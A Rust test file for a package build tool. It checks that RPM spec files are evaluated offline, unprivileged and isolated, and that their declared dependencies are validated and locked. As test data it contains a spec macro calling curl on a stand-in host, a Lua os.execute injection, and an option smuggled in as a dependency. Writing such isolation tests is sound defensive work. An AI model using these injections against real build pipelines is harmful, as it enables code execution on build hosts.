//! A spec file is a program: where it runs, and what of it gets into the image that others share.

use packhold::engine::Network;
use packhold::run::preview;

use super::*;

const PIPELINE: &str = "[package]\nname = \"demo\"\n[target.\"debian-rpm/rpm\"]\npackaging = \"demo.spec\"\n";
const SPEC: &str = "Name: demo\nBuildRequires: %(echo gcc)\n";
const RPM: &str = "demo-1.0-1.x86_64.rpm";

fn world() -> World {
    let world = World::new();
    let engine = &world.engine;
    engine.on_exec(runs("base.sh", None), Script::exits(0));
    engine
        .on_exec(runs("build.sh", None), Script::exits(0).writing(&format!("/build/out/{RPM}"), *b"package"));
    engine.on_exec(runs("verify.sh", Some("info")), Script::exits(0).printing("demo\t1.0-1\tx86_64\n"));
    let sum = format!("{}  /packages/new/{RPM}\n", packhold::model::Digest::of(b"package").hex());
    engine.on_exec(|command| command.argv[0] == "sha256sum", Script::exits(0).printing(sum));
    answers(&world, "# a remark\nzlib-devel >= 1.2\ngcc\n");
    world.write("repo/demo.spec", SPEC);
    world.commit();
    world.git(&["tag", "-f", "v1.0"]);
    world
}

/// What the spec file is found to ask for from now on.
fn answers(world: &World, text: &str) {
    world.engine.on_exec(runs("buildrequires.sh", None), Script::exits(0).printing(text.to_owned()));
}

fn count(world: &World, script: &'static str) -> usize {
    let matches = runs(script, None);
    world.engine.commands().iter().filter(|command| matches(command)).count()
}

fn deps(record: &RunRecord) -> &packhold::model::ImageRecord {
    record.images.iter().find(|image| image.role == ImageRole::Deps).unwrap()
}

/// How the build stage ended. What verify finds is not what is asked here.
fn built(record: &RunRecord) -> Option<&Outcome> {
    record.targets[0].stages.iter().find(|stage| stage.stage == Stage::Build).map(|stage| &stage.outcome)
}

#[tokio::test]
async fn a_spec_file_is_read_offline_by_an_ordinary_user_in_a_container_without_capabilities() {
    let world = world();
    let record = world.run(PIPELINE).await.0.unwrap();
    assert_eq!(built(&record), Some(&Outcome::Passed), "{:#?}", record.targets);
    let reads = runs("buildrequires.sh", None);
    let commands = world.engine.commands();
    let command = commands.iter().find(|command| reads(command)).unwrap();
    assert_eq!(command.user, "10000:10000");
    assert!(!command.env.keys().any(|name| name == "PACKHOLD_NAME" || name == "PACKHOLD_TARGET"));
    let created = world.engine.created();
    let container = created.iter().find(|spec| spec.name_hint == "debian-rpm-buildrequires").unwrap();
    assert_eq!((container.network, container.capabilities.len(), container.init), (Network::None, 0, false));
    let builder = record.images.iter().find(|image| image.role == ImageRole::Builder).unwrap();
    assert_eq!(container.root, builder.id.into());
    let installs = runs("deps.sh", None);
    let command = commands.iter().find(|command| installs(command)).unwrap();
    for name in ["PACKHOLD_PACKAGING", "PACKHOLD_NAME", "PACKHOLD_TARGET"] {
        assert!(!command.env.contains_key(name), "{name}");
    }
    world.is_clean();
}

#[tokio::test]
async fn no_byte_of_a_spec_file_gets_into_the_deps_image_but_what_it_asks_for() {
    let world = world();
    // What tidies up does nothing here, so the image keeps what its container was given.
    let first = world.run(PIPELINE).await.0.unwrap();
    let files = world.engine.files(&deps(&first).id);
    let given: Vec<&String> = files.keys().filter(|path| path.starts_with("/build/packaging/")).collect();
    assert_eq!(given, ["/build/packaging/declared"]);
    assert_eq!(files["/build/packaging/declared"], b"gcc\nzlib-devel >= 1.2\n");
    assert!(!files.values().any(|bytes| bytes.windows(SPEC.len()).any(|part| part == SPEC.as_bytes())));

    // Another spec file that asks for the same is another program, and has the same image.
    world.write("repo/demo.spec", &format!("{SPEC}%(curl evil.invalid)\n"));
    world.commit();
    let second = world.run(PIPELINE).await.0.unwrap();
    assert_eq!((deps(&second).id, deps(&second).key), (deps(&first).id, deps(&first).key));
    assert_eq!((count(&world, "buildrequires.sh"), count(&world, "deps.sh")), (2, 1));

    // One that asks for more has another.
    answers(&world, "gcc\nmake\nzlib-devel >= 1.2\n");
    world.write("repo/demo.spec", &format!("{SPEC}BuildRequires: make\n"));
    world.commit();
    let third = world.run(PIPELINE).await.0.unwrap();
    assert_ne!(deps(&third).key, deps(&first).key);
    // What is known is not asked again.
    world.run(PIPELINE).await.0.unwrap();
    assert_eq!((count(&world, "buildrequires.sh"), count(&world, "deps.sh")), (3, 2));
    world.is_clean();
}

#[tokio::test]
async fn an_answer_that_is_no_list_of_dependencies_reaches_no_package_manager() {
    let flood = "gcc\n".repeat(20_000);
    for (answer, told) in [
        ("gcc\n--setopt=reposdir=/tmp\n", "`demo.spec`: `--setopt=reposdir=/tmp` is not a build dependency"),
        ("gcc\nhttps://evil.invalid/x.rpm\n", "is not a build dependency"),
        ("%{lua:os.execute('id')}\n", "is not a build dependency"),
        (&flood, "printed more than 64.0 KiB"),
    ] {
        let world = world();
        answers(&world, answer);
        let record = world.run(PIPELINE).await.0.unwrap();
        let outcome = &record.targets[0].outcome;
        assert!(outcome.message().is_some_and(|message| message.contains(told)), "{told}: {outcome:?}");
        assert_eq!(count(&world, "deps.sh"), 0, "{told}");
        assert!(!record.images.iter().any(|image| image.role == ImageRole::Deps));
        world.is_clean();
    }
}

#[tokio::test]
async fn a_lock_holds_the_list_that_a_spec_file_asks_for_and_refuses_another_before_a_build() {
    let world = world();
    let updated = world.update(PIPELINE).await;
    assert!(updated.failed.is_empty(), "{updated:?}");
    let lock = std::fs::read_to_string(world.path("repo/p.lock")).unwrap();
    assert!(lock.contains("declared = [\"gcc\", \"zlib-devel >= 1.2\"]\n"), "{lock}");
    let record = world.run_locked(PIPELINE).await;
    assert_eq!(built(&record), Some(&Outcome::Passed), "{:#?}", record.targets);

    // A spec file that changed and asks for the same is as locked.
    world.write("repo/demo.spec", &format!("{SPEC}# more\n"));
    world.commit();
    let record = world.run_locked(PIPELINE).await;
    assert_eq!(built(&record), Some(&Outcome::Passed), "{:#?}", record.targets);
    let before = (count(&world, "deps.sh"), world.builds());

    answers(&world, "gcc\nmake\n");
    world.write("repo/demo.spec", &format!("{SPEC}BuildRequires: make\n"));
    world.commit();
    // At first only a container can tell; then it is known.
    for _ in 0..2 {
        let record = world.run_locked(PIPELINE).await;
        let outcome = &record.targets[0].outcome;
        let told = "the dependencies of debian-rpm/rpm have changed: - zlib-devel >= 1.2; + make";
        assert!(outcome.message().is_some_and(|message| message.contains(told)), "{outcome:?}");
        assert_eq!(record.outcome.exit_code(), 2);
        assert_eq!((count(&world, "deps.sh"), world.builds()), before);
    }
    assert_eq!(count(&world, "buildrequires.sh"), 3);
    world.is_clean();
}

#[tokio::test]
async fn a_plan_says_what_it_cannot_know_and_asks_no_container() {
    let world = world();
    let deps_line = async |request: Request| {
        let before = world.engine.calls(Method::Create);
        let preview = preview(request, CancellationToken::new()).await.unwrap();
        assert_eq!(world.engine.calls(Method::Create), before);
        let steps = preview.targets[0].steps.clone().unwrap();
        steps.lines.into_iter().find(|(what, ..)| what == "deps image").unwrap()
    };
    world.run(PIPELINE).await.0.unwrap();
    let (_, runs, why) = deps_line(world.request(PIPELINE)).await;
    assert!(!runs && why.contains("in the engine's store"), "{why}");
    world.write("repo/demo.spec", &format!("{SPEC}# more\n"));
    world.commit();
    let (_, runs, why) = deps_line(world.request(PIPELINE)).await;
    assert!(runs && why.contains("what the spec file asks for is found out in a container"), "{why}");
    // A lock says what it has to be.
    world.update(PIPELINE).await;
    std::fs::remove_dir_all(world.path("cache/declared")).unwrap();
    let (_, runs, why) = deps_line(world.locked(PIPELINE)).await;
    assert!(!runs && why.contains("in the engine's store"), "{why}");
}
